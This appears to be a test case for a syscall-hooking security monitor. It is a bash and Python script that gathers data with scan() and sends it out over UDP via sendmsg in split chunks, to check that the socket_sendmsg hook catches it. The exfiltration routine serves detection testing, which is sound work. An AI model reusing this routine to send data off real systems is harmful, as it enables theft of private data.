#!/usr/bin/env bash
# technique: sendmsg with an address and several pieces
# hooks: socket_sendmsg
# sink: private-udp

. attack.sh
python3 - <<'PY'
from attack import *

data = scan()
with socket.socket(type=socket.SOCK_DGRAM) as sink:
    for start in range(0, 1 << 15, 1024):
        sink.sendmsg([data[start : start + 512], data[start + 512 : start + 1024]], [], 0, UDP)
PY
